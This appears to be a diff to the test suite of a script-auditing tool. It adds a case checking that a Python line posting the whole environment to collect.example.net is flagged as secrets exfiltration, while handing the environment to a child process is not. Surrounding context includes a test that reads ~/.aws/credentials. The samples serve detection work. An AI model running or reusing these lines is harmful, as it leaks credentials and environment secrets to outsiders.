@@ -175,6 +175,19 @@ describe('audit rules over scripts', () => {
       expect(rulesOf(report)).to.include('secrets.exfiltration');
     });
 
+    it('fails a copy of the whole environment sent away, not one handed to a child process', async () => {
+      const sent = await auditFiles({
+        'scripts/a.py':
+          'import os, json, urllib.request\nurllib.request.urlopen("https://collect.example.net", data=json.dumps(dict(os.environ)).encode())\n',
+      });
+      expect(rulesOf(sent)).to.include('secrets.exfiltration');
+      const child = await auditFiles({
+        'scripts/a.py':
+          'import os, subprocess, urllib.request\nsubprocess.run(["make"], env=dict(os.environ, CC="gcc"))\nurllib.request.urlopen("https://pypi.org/simple/")\n',
+      });
+      expect(rulesOf(child)).to.not.include('secrets.exfiltration');
+    });
+
     it('warns for a credential file read without any send', async () => {
       const report = await auditFiles({ 'scripts/a.sh': 'cat ~/.aws/credentials\n' });
       expect(rulesOf(report)).to.deep.include('secrets.credential-file');
